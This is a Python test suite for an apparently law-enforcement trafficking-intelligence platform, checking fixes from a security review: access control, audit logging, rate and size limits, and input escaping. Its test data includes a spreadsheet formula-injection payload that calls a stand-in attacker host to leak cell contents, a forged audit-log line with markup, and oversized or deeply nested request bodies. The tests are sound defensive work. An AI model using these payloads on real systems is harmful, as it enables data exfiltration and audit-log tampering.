"""Authorised writes, limits, audit of every read path and the low findings of the security
review of 2026-11-29 (findings 7, 11, 12, 13, 20, 21, 22, 23, 24, 25, 27).

Data-backed tests run on SQLite and PostgreSQL (`store` fixture); each is named after the
finding it guards against.
"""

from __future__ import annotations

import csv
import json
import logging
from collections.abc import Iterator, MutableMapping
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from palermo.api import exchange_routes
from palermo.api.app import create_app
from palermo.api.body_limits import BodyLimit
from palermo.api.exchange_routes import StreamSlots
from palermo.cli.main import app as cli
from palermo.ingest.build import build
from palermo.model.sharing import Sharing
from palermo.store.store import Store
from tests.store.factories import SYSTEM, person, setup_agencies

Headers = dict[str, str]


def app_for(store: Store) -> FastAPI:
    """The application with the body limit installed (once, whether or not `create_app`
    already wires it)."""
    app = create_app(store=store, rate_limit=0)
    if not any(getattr(m, "cls", None) is BodyLimit for m in app.user_middleware):
        app.add_middleware(BodyLimit)
    return app


@pytest.fixture
def world(store: Store) -> Iterator[tuple[Store, TestClient, dict[str, Headers]]]:
    """A1 and B2 in group EU, C3 alone. Users per agency: analyst-*, officer-* (analyst,
    officer), chief-* (officer, supervisor); support-b2 (victim-support only). Data: A1's
    person p1 shared with everyone and linked to p2, A1's owner-only secret."""
    setup_agencies(store, {"A1": ("EU",), "B2": ("EU",), "C3": ()})
    for code in ("A1", "B2", "C3"):
        store.add_user(SYSTEM, f"officer-{code.lower()}", code, "analyst,officer")
        store.add_user(SYSTEM, f"chief-{code.lower()}", code, "officer,supervisor")
    store.add_user(SYSTEM, "support-b2", "B2", "victim-support")
    a1 = store.viewer("analyst-a1")
    store.write(a1, person("A1", "p1", Sharing.to_all(), name="Ivan Petrov"))
    store.write(a1, person("A1", "p2", Sharing.to_all(), name="Olga Petrova"))
    store.write(a1, person("A1", "secret", Sharing.owner_only(), name="Hidden Person"))
    link = {"person": "a1.p1", "associate": "a1.p2", "relationship": "recruiter"}
    store.write(a1, build("A1", "a1.link", "Associate", link, Sharing.to_all()))
    users = [u for code in ("a1", "b2", "c3") for u in (f"analyst-{code}", f"officer-{code}")]
    users += ["chief-a1", "chief-b2", "support-b2", "analyst2-a1"]
    store.add_user(SYSTEM, "analyst2-a1", "A1", "analyst")
    headers = {
        u: {"Authorization": f"Bearer {store.create_token(SYSTEM, u, 'test')}"} for u in users
    }
    with TestClient(app_for(store)) as client:
        yield store, client, headers


def audit_since(store: Store, seq: int) -> list[Any]:
    return list(store.audit_entries(seq))


def detail(entry: Any) -> Any:
    return json.loads(entry.detail)


def head(store: Store) -> int:
    entries = store.audit_entries()
    return entries[-1].seq if entries else 0


def create_mla(client: TestClient, h: Headers, requested: str = "B2") -> str:
    body = {
        "reference": "MLA-1",
        "requesting_country": "de",
        "requested_country": "nl",
        "requested_agency": requested,
        "request_type": "evidence",
        "legal_basis": "UNTOC art. 18",
        "deadline": "2026-12-31",
        "facts": {"acts": ["recruitment"], "means": ["deception"], "purposes": ["forced-labour"]},
    }
    response = client.post("/api/v1/mla", json=body, headers=h)
    assert response.status_code == 200, response.text
    return str(response.json()["id"])


def issue(client: TestClient, h: Headers, kind: str, subject: str = "a1.p1") -> Any:
    body = {"notice_type": kind, "subject_id": subject, "reason": "wanted", "scope": "all"}
    return client.post("/api/v1/notices", json=body, headers=h)


# --- 7: authorised writes -----------------------------------------------------------------


def test_finding_7_writes_check_schema_parties_and_role(
    world: tuple[Store, TestClient, dict[str, Headers]],
) -> None:
    store, client, h = world
    request_id = create_mla(client, h["analyst-a1"])
    notice = issue(client, h["chief-a1"], "blue").json()["id"]
    before = store.count_statements()
    status = {"status": "refused"}
    # Not a request (a Person, a Notice): 404, nothing written, no co-ownership gained.
    for target in ("a1.p1", notice):
        answer = client.post(f"/api/v1/mla/{target}/status", json=status, headers=h["analyst-b2"])
        assert answer.status_code == 404 and answer.json()["field"] == "request_id"
    # Not visible to C3: 404, the same answer as "missing".
    answer = client.post(f"/api/v1/mla/{request_id}/status", json=status, headers=h["analyst-c3"])
    assert answer.status_code == 404
    # The requested agency's victim-support staff may not change MLA requests: 403.
    answer = client.post(f"/api/v1/mla/{request_id}/status", json=status, headers=h["support-b2"])
    assert answer.status_code == 403
    assert store.count_statements() == before
    person_now = client.get("/api/v1/entities/a1.p1", headers=h["analyst-a1"]).json()
    assert person_now["agencies"] == ["A1"] and "requestStatus" not in person_now["properties"]
    # The two parties may: the requested side answers, the requesting side sees it.
    answer = client.post(
        f"/api/v1/mla/{request_id}/status", json={"status": "executed"}, headers=h["analyst-b2"]
    )
    assert answer.status_code == 200
    seen = client.get(f"/api/v1/entities/{request_id}", headers=h["analyst-a1"]).json()
    assert {v["value"] for v in seen["properties"]["requestStatus"]} >= {"executed"}
    # A request goes to exactly one other member agency, never to a group or to all (which
    # would make every member a party able to answer it).
    for requested in ("group:EU", "all", "A1", "ZZ-NONE"):
        body: dict[str, Any] = {
            "reference": "MLA-2",
            "requesting_country": "de",
            "requested_country": "nl",
            "requested_agency": requested,
            "request_type": "evidence",
            "legal_basis": "UNTOC art. 18",
            "deadline": "2026-12-31",
            "facts": {},
        }
        answer = client.post("/api/v1/mla", json=body, headers=h["analyst-a1"])
        assert answer.status_code == 400 and answer.json()["field"] == "requested_agency"
    # Withdrawing a notice: never a 500; another agency's notice is 403, a person 404.
    assert (
        client.post(f"/api/v1/notices/{notice}/withdraw", headers=h["chief-b2"]).status_code == 403
    )
    assert client.post("/api/v1/notices/a1.p1/withdraw", headers=h["chief-a1"]).status_code == 404
    answer = client.post(f"/api/v1/notices/{notice}/withdraw", headers=h["chief-a1"])
    assert answer.status_code == 200 and answer.json() == {"status": "withdrawn"}


def test_finding_7_case_tasks_and_notes_need_a_case_and_a_writing_team_role(
    world: tuple[Store, TestClient, dict[str, Headers]],
) -> None:
    store, client, h = world
    body = {
        "case_number": "A1-1",
        "title": "Nail salons",
        "exploitation_form": "forced-labour",
        "team": {"B2": "observer", "C3": "member"},
    }
    case_id = client.post("/api/v1/cases", json=body, headers=h["analyst-a1"]).json()["id"]
    note = {"text": "seen at the border"}
    # An observer reads the case but does not write to it.
    assert client.get(f"/api/v1/cases/{case_id}", headers=h["analyst-b2"]).status_code == 200
    answer = client.post(f"/api/v1/cases/{case_id}/notes", json=note, headers=h["analyst-b2"])
    assert answer.status_code == 403
    task = {"title": "check flights"}
    answer = client.post(f"/api/v1/cases/{case_id}/tasks", json=task, headers=h["analyst-b2"])
    assert answer.status_code == 403
    # A task on something that is not a case: 404 naming case_id.
    answer = client.post("/api/v1/cases/a1.p1/tasks", json=task, headers=h["analyst-a1"])
    assert answer.status_code == 404 and answer.json()["field"] == "case_id"
    # Members and the lead write.
    answer = client.post(f"/api/v1/cases/{case_id}/notes", json=note, headers=h["analyst-c3"])
    assert answer.status_code == 200
    answer = client.post(f"/api/v1/cases/{case_id}/tasks", json=task, headers=h["analyst-a1"])
    assert answer.status_code == 200
    # Operation results: only participants report (checked, unchanged behaviour).
    op = {
        "name": "Op",
        "participants": [{"agency": "A1", "country": "DE", "timezone": "Europe/Berlin"}],
        "action_time": "2026-12-03T05:30:00+01:00",
    }
    op_id = client.post("/api/v1/operations", json=op, headers=h["analyst-a1"]).json()["id"]
    result = {"country": "DE", "arrests": 1}
    answer = client.post(
        f"/api/v1/operations/{op_id}/results", json=result, headers=h["analyst-b2"]
    )
    assert answer.status_code in (400, 403, 404)
    assert store.count_statements() > 0


# --- 25: notices --------------------------------------------------------------------------


def test_finding_25_notices_need_a_role_a_visible_subject_and_review(
    world: tuple[Store, TestClient, dict[str, Headers]],
) -> None:
    _, client, h = world
    # An analyst without the officer role may not issue notices.
    assert issue(client, h["analyst-b2"], "red").status_code == 403
    # Nobody issues a notice about an entity they cannot see (A1's owner-only record).
    answer = issue(client, h["officer-b2"], "red", subject="a1.secret")
    assert answer.status_code == 404 and answer.json()["field"] == "subject_id"
    # An officer's red notice is requested: not listed as active, flags no screening.
    red = issue(client, h["officer-b2"], "red").json()["id"]
    listed = client.get("/api/v1/notices", headers=h["analyst-c3"]).json()["results"]
    assert red not in [n["id"] for n in listed]
    screened = client.post(
        "/api/v1/screening/person", json={"name": "Ivan Petrov"}, headers=h["analyst-c3"]
    ).json()
    assert screened and not any(c["flags"] for c in screened if c["id"] == "a1.p1")
    # Only a supervisor of the issuing agency approves.
    assert client.post(f"/api/v1/notices/{red}/approve", headers=h["officer-b2"]).status_code == 403
    assert client.post(f"/api/v1/notices/{red}/approve", headers=h["chief-a1"]).status_code == 403
    answer = client.post(f"/api/v1/notices/{red}/approve", headers=h["chief-b2"])
    assert answer.status_code == 200
    listed = client.get("/api/v1/notices", headers=h["analyst-c3"]).json()["results"]
    assert red in [n["id"] for n in listed]
    screened = client.post(
        "/api/v1/screening/person", json={"name": "Ivan Petrov"}, headers=h["analyst-c3"]
    ).json()
    assert any("red notice" in f for c in screened if c["id"] == "a1.p1" for f in c["flags"])
    # A blue notice (more information) needs no review; a supervisor's red is active at once.
    blue = issue(client, h["officer-b2"], "blue").json()["id"]
    chief_red = issue(client, h["chief-a1"], "red").json()["id"]
    listed = client.get("/api/v1/notices", headers=h["analyst-c3"]).json()["results"]
    active = {n["id"] for n in listed}
    assert {blue, chief_red} <= active
    assert client.post(f"/api/v1/notices/{blue}/approve", headers=h["chief-b2"]).status_code == 400


# --- 11: audit of every read path ---------------------------------------------------------


def test_finding_11_cached_analysis_alerts_and_screening_are_audited_per_caller(
    world: tuple[Store, TestClient, dict[str, Headers]],
) -> None:
    store, client, h = world
    # analyst-a1 builds the A1 workspace; analyst2-a1 is then served from the cache.
    assert client.get("/api/v1/analysis/graph", headers=h["analyst-a1"]).status_code == 200
    mark = head(store)
    other = h["analyst2-a1"]
    calls = {
        "analysis.graph": "/api/v1/analysis/graph?ego=a1.p1&hops=1",
        "analysis.path": "/api/v1/analysis/path?source=a1.p1&target=a1.p2",
        "analysis.risk": "/api/v1/analysis/risk?top=5",
        "analysis.report": "/api/v1/analysis/report",
        "analysis.graphml": "/api/v1/analysis/graph.graphml",
        "analysis.brokers": "/api/v1/analysis/brokers",
        "analysis.communities": "/api/v1/analysis/communities",
        "analysis.routes": "/api/v1/analysis/routes",
        "analysis.hotspots": "/api/v1/analysis/hotspots",
        "analysis.trends": "/api/v1/analysis/trends",
    }
    for path in calls.values():
        assert client.get(path, headers=other).status_code == 200, path
    rows = [e for e in audit_since(store, mark) if e.username == "analyst2-a1"]
    assert {e.action for e in rows} >= set(calls)
    ego = next(e for e in rows if e.action == "analysis.graph")
    assert ego.target == "a1.p1" and "a1.p1" in detail(ego)["ids"]
    path = next(e for e in rows if e.action == "analysis.path")
    assert detail(path)["count"] == 2
    # Alerts: the list and the stream are reads of the alert summaries.
    store.add_user(SYSTEM, "watcher-b2", "B2", "analyst")
    watcher = {"Authorization": f"Bearer {store.create_token(SYSTEM, 'watcher-b2', 't')}"}
    sub = {"kind": "name", "value": "Anna Berg"}
    assert client.post("/api/v1/subscriptions", json=sub, headers=watcher).status_code == 200
    store.write(store.viewer("analyst-a1"), person("A1", "p9", Sharing.to_all(), name="Anna Berg"))
    from palermo.exchange import alerts

    alerts.scan(store)
    mark = head(store)
    found = client.get("/api/v1/alerts", headers=watcher).json()
    assert [a["entity_id"] for a in found] == ["a1.p9"]
    read = [e for e in audit_since(store, mark) if e.action == "alerts.read"]
    assert read and read[-1].username == "watcher-b2" and detail(read[-1])["entities"] == ["a1.p9"]
    with client.stream("GET", "/api/v1/alerts/stream", headers=watcher) as response:
        for line in response.iter_lines():
            if line.startswith("data:"):
                break
    actions = [(e.username, e.action) for e in audit_since(store, mark)]
    assert ("watcher-b2", "alerts.stream") in actions
    assert actions.count(("watcher-b2", "alerts.read")) >= 2  # the list, then the stream
    # Screening: candidate ids are logged; a manifest logs names, flagged and candidates.
    mark = head(store)
    body = {"name": "Ivan Petrov"}
    assert client.post("/api/v1/screening/person", json=body, headers=h["analyst-c3"]).json()
    manifest = {"passengers": [{"name": "PETROV Ivan"}, {"name": "Nobody Atall"}]}
    answer = client.post("/api/v1/screening/manifest", json=manifest, headers=h["analyst-c3"])
    assert answer.status_code == 200
    rows = audit_since(store, mark)
    screened = next(e for e in rows if e.action == "screen.person")
    assert "a1.p1" in detail(screened)["candidates"]
    listed = next(e for e in rows if e.action == "screen.manifest")
    assert listed.username == "analyst-c3"
    assert sorted(detail(listed)["names"]) == ["Nobody Atall", "PETROV Ivan"]
    assert "a1.p1" in detail(listed)["candidates"] and "flagged" in detail(listed)


# --- 12: the alert stream -----------------------------------------------------------------


def test_finding_12_alert_stream_poll_floor_lifetime_and_per_user_limit(
    world: tuple[Store, TestClient, dict[str, Headers]], monkeypatch: pytest.MonkeyPatch
) -> None:
    _, client, h = world
    for poll in ("0.000001", "0.25", "0", "11"):
        answer = client.get(f"/api/v1/alerts/stream?poll={poll}", headers=h["analyst-b2"])
        assert answer.status_code == 422 and answer.json()["field"] == "poll", poll
    # A stream ends on its own after its lifetime (here: at once), giving its slot back.
    monkeypatch.setattr(exchange_routes, "STREAM_SECONDS", 0.0)
    for _ in range(exchange_routes.MAX_STREAMS_PER_USER + 1):
        answer = client.get("/api/v1/alerts/stream?poll=0.5", headers=h["analyst-b2"])
        assert answer.status_code == 200 and ": connected" in answer.text
    # A user holding every slot gets a 429 naming the stream; another user does not.
    slots = StreamSlots(limit=1)
    client.app.state.alert_streams = slots  # type: ignore[attr-defined]
    assert slots.take("analyst-b2") is not None
    answer = client.get("/api/v1/alerts/stream", headers=h["analyst-b2"])
    assert answer.status_code == 429
    assert client.get("/api/v1/alerts/stream", headers=h["analyst-c3"]).status_code == 200
    # A slot whose stream never started lapses after the longest lifetime.
    lapsing = StreamSlots(limit=1, lifetime=-30.0)
    assert lapsing.take("u") is not None and lapsing.take("u") is not None


# --- 13: the exchange endpoint ------------------------------------------------------------


def test_finding_13_unauthenticated_batches_write_nothing_and_bodies_are_bounded(
    world: tuple[Store, TestClient, dict[str, Headers]], caplog: pytest.LogCaptureFixture
) -> None:
    store, client, _ = world
    before = head(store)
    forged = {
        "protocol": "palermo-exchange/1",
        "sender": "DE-BKA",
        "receiver": "node-rt-probe",
        "after": 0,
        "upto": 1,
        "statements": [],
        "key": "x",
        "signature": "y",
    }
    with caplog.at_level(logging.WARNING, logger="palermo.exchange.inbox"):
        answer = client.post("/exchange/v1/batches", json=forged)
        malformed = client.post("/exchange/v1/batches", json={"protocol": "nope"})
    assert answer.status_code == 403 and answer.json()["outcome"] == "rejected"
    assert answer.json()["cursor"] == 0  # no sync state for an unauthenticated caller
    assert malformed.status_code == 403
    assert head(store) == before  # no audit row under a caller-chosen agency
    assert sum("not verified" in r.getMessage() for r in caplog.records) == 2
    assert store.audit_verify().ok
    nested = client.post(
        "/exchange/v1/batches", content=b"[" * 100_000, headers={"content-type": "application/json"}
    )
    assert nested.status_code == 400 and nested.json()["field"] == "body"
    garbage = client.post("/exchange/v1/batches", content=b"\xff{", headers={})
    assert garbage.status_code == 400
    huge = client.post("/exchange/v1/batches", content=b" " * (20 * 1024 * 1024))
    assert huge.status_code == 413 and huge.json()["field"] == "body"
    assert head(store) == before


# --- 20: CSV export -----------------------------------------------------------------------


def test_finding_20_csv_export_neutralises_formulas(
    store: Store, backend_url: str, tmp_path: Path
) -> None:
    setup_agencies(store, {"A1": ("EU",), "B2": ("EU",)})
    payloads = ['=HYPERLINK("http://attacker.invalid/?d="&A1,"x")', "+1+1", "-2", "@SUM(A1)"]
    payloads += ["\tTAB", "\rCR", "plain", "a=b"]
    a1 = store.viewer("analyst-a1")
    for i, text in enumerate(payloads):
        store.write(a1, person("A1", f"p{i}", Sharing.parse("B2"), name=text))
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(
        cli,
        ["--db", backend_url, "export", "--as", "analyst-b2", "--format", "csv", "-o", str(out)],
    )
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:
        names = {row["value"] for row in csv.DictReader(fh) if row["prop"] == "name"}
    stored = {
        v.value
        for e in store.entities(store.viewer("analyst-b2"), schema="Person", limit=100)
        for v in e.properties["name"]
    }
    assert {s for s in stored if s[0] in "=+-@"} == {p for p in payloads if p[0] in "=+-@"}
    assert names == {("'" + s if s[0] in "=+-@\t\r" else s) for s in stored}
    assert "'" + payloads[0] in names and "plain" in names and "a=b" in names


# --- 21: audit log output -----------------------------------------------------------------


def test_finding_21_audit_log_escapes_markup_and_control_characters(
    world: tuple[Store, TestClient, dict[str, Headers]], backend_url: str
) -> None:
    store, client, h = world
    mark = head(store)
    forged = "zz-rt\n  1200 2026-11-29 support-b2@B2 [bold red]FORGED[/bold red] audit line"
    assert client.get("/api/v1/search", params={"q": forged}, headers=h["analyst-c3"]).is_success
    result = CliRunner().invoke(cli, ["--db", backend_url, "audit", "log", "--since", str(mark)])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    search = [line for line in lines if " search " in line]
    assert len(search) == 1
    assert "\\n" in search[0] and "[bold red]FORGED[/bold red]" in search[0]
    assert not any(line.lstrip().startswith("1200 ") for line in lines)


# --- 22: report titles --------------------------------------------------------------------


def test_finding_22_report_title_is_plain_text_and_bounded(
    world: tuple[Store, TestClient, dict[str, Headers]],
) -> None:
    _, client, h = world
    for title in ("$x^$", "$" + "{" * 60, r"100$ \frac{a}{b} $"):
        answer = client.get(
            "/api/v1/analysis/report",
            params={"format": "pdf", "title": title},
            headers=h["analyst-a1"],
        )
        assert answer.status_code == 200, (title, answer.text[:200])
        assert answer.content.startswith(b"%PDF")
    for bad in ("x" * 121, "two\nlines", ""):
        answer = client.get(
            "/api/v1/analysis/report", params={"title": bad}, headers=h["analyst-a1"]
        )
        assert answer.status_code == 422 and answer.json()["field"] == "title"


# --- 23: ids with a slash -----------------------------------------------------------------


def test_finding_23_ids_with_a_slash_are_reachable_and_linked_encoded(
    world: tuple[Store, TestClient, dict[str, Headers]],
) -> None:
    store, client, h = world
    a1 = store.viewer("analyst-a1")
    store.write(a1, person("A1", "NAPTIP/0000007", Sharing.to_all(), name="Grace Okafor"))
    for path in ("a1.NAPTIP/0000007", "a1.NAPTIP%2F0000007"):
        answer = client.get(f"/api/v1/entities/{path}", headers=h["analyst-b2"])
        assert answer.status_code == 200 and answer.json()["id"] == "a1.NAPTIP/0000007"
        page = client.get(f"/entities/{path}", headers=h["analyst-b2"])
        assert page.status_code == 200 and "Grace Okafor" in page.text
    assert client.get("/api/v1/entities/a1.NAPTIP/9", headers=h["analyst-b2"]).status_code == 404
    found = client.get("/search", params={"q": "okafor"}, headers=h["analyst-b2"])
    assert 'href="/entities/a1.NAPTIP%2F0000007"' in found.text


# --- 24: LIKE wildcards and NUL in search -------------------------------------------------


def test_finding_24_search_treats_wildcards_literally_and_refuses_nul(
    world: tuple[Store, TestClient, dict[str, Headers]],
) -> None:
    store, client, h = world
    a1 = store.viewer("analyst-a1")
    store.write(a1, person("A1", "odd", Sharing.to_all(), name="Shop 50%_off \\ Ltd"))
    for q in ("%%", "__", "%_%", "\\\\"):
        found = client.get("/api/v1/search", params={"q": q}, headers=h["analyst-b2"]).json()
        assert [e["id"] for e in found] == [], q
    # Search is by words (ADR 0013): wildcard characters are never patterns, and the
    # record's own words, backslash included, find it.
    literal = client.get("/api/v1/search", params={"q": "50%_o"}, headers=h["analyst-b2"]).json()
    assert [e["id"] for e in literal] == []
    words = client.get("/api/v1/search", params={"q": "shop \\ off ltd"}, headers=h["analyst-b2"])
    assert [e["id"] for e in words.json()] == ["a1.odd"]
    for q in ("\x00\x00", "pe\x00tr"):
        answer = client.get("/api/v1/search", params={"q": q}, headers=h["analyst-b2"])
        assert answer.status_code == 422 and answer.json()["field"] == "q"


# --- 27: limits ---------------------------------------------------------------------------


def test_finding_27_field_lengths_rows_attachments_subscriptions_and_body_size(
    world: tuple[Store, TestClient, dict[str, Headers]], monkeypatch: pytest.MonkeyPatch
) -> None:
    store, client, h = world
    a1 = h["analyst-a1"]
    long_reason = {"notice_type": "blue", "subject_id": "a1.p1", "reason": "x" * 20_001}
    answer = client.post("/api/v1/notices", json=long_reason, headers=h["chief-a1"])
    assert answer.status_code == 422 and answer.json()["field"] == "reason"
    case = {"case_number": "X" * 1001, "title": "t", "exploitation_form": "f"}
    answer = client.post("/api/v1/cases", json=case, headers=a1)
    assert answer.status_code == 422 and answer.json()["field"] == "case_number"
    attachment = {"name": "a.txt", "content_base64": "aGVsbG8="}
    message = {"to_agency": "B2", "subject": "s", "body": "b", "attachments": [attachment] * 6}
    answer = client.post("/api/v1/messages", json=message, headers=a1)
    assert answer.status_code == 422 and answer.json()["field"] == "attachments"
    message["attachments"] = [attachment]
    assert client.post("/api/v1/messages", json=message, headers=a1).status_code == 200
    # Manifests: at most 5,000 rows, as JSON or CSV.
    rows = [{"name": f"Person {i}"} for i in range(5_001)]
    answer = client.post("/api/v1/screening/manifest", json={"passengers": rows}, headers=a1)
    assert answer.status_code == 422 and answer.json()["field"] == "passengers"
    text = "name\n" + "".join(f"Person {i}\n" for i in range(5_001))
    answer = client.post("/api/v1/screening/manifest.csv", content=text.encode(), headers=a1)
    assert answer.status_code == 422 and answer.json()["field"] == "passengers"
    # Subscriptions per user (limit lowered for the test).
    monkeypatch.setattr(exchange_routes, "MAX_SUBSCRIPTIONS", 2)
    for i in range(2):
        sub = {"kind": "name", "value": f"name {i}"}
        assert client.post("/api/v1/subscriptions", json=sub, headers=a1).status_code == 200
    answer = client.post("/api/v1/subscriptions", json={"kind": "name", "value": "x"}, headers=a1)
    assert answer.status_code == 400 and answer.json()["field"] == "subscriptions"
    # Body size: 1 MiB for ordinary API bodies.
    before = store.count_statements()
    big = json.dumps({**case, "case_number": "A", "title": "t" * (2 * 1024 * 1024)})
    answer = client.post(
        "/api/v1/cases", content=big, headers={**a1, "content-type": "application/json"}
    )
    assert answer.status_code == 413 and answer.json()["field"] == "body"
    assert store.count_statements() == before
    # A chunked body (no Content-Length) is cut off once it passes the path's 4 MiB.
    chunks = (b"n" * (600 * 1024) for _ in range(10))
    answer = client.post("/api/v1/screening/manifest.csv", content=chunks, headers=a1)
    assert answer.status_code == 413 and answer.json()["detail"].startswith("body:")


def test_finding_27_body_limit_cuts_off_streamed_bodies() -> None:
    """A body without (or with a lying) Content-Length is cut off once it crosses the limit."""
    import asyncio

    received: list[bytes] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        while True:
            message = await receive()
            received.append(message.get("body", b""))
            if not message.get("more_body"):
                break
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"ok"})

    chunks = [b"x" * 600, b"x" * 600, b"x" * 600]
    sent: list[MutableMapping[str, Any]] = []

    async def receive() -> dict[str, Any]:
        body = chunks.pop(0)
        return {"type": "http.request", "body": body, "more_body": bool(chunks)}

    async def send(message: MutableMapping[str, Any]) -> None:
        sent.append(message)

    middleware = BodyLimit(app, limits={}, default=1000)
    scope = {"type": "http", "path": "/api/v1/x", "headers": [(b"content-length", b"10")]}
    asyncio.run(middleware(scope, receive, send))
    assert sent[0]["status"] == 413 and len(received) == 1  # the third chunk was never read


def test_finding_27_mla_requests_carry_only_short_fields(
    world: tuple[Store, TestClient, dict[str, Headers]],
) -> None:
    _, client, h = world
    answer = client.post("/api/v1/mla/x/status", json={"status": "s" * 65}, headers=h["analyst-a1"])
    assert answer.status_code == 422 and answer.json()["field"] == "status"
    assert date.today()  # the deadline field stays a date (validated by the model)
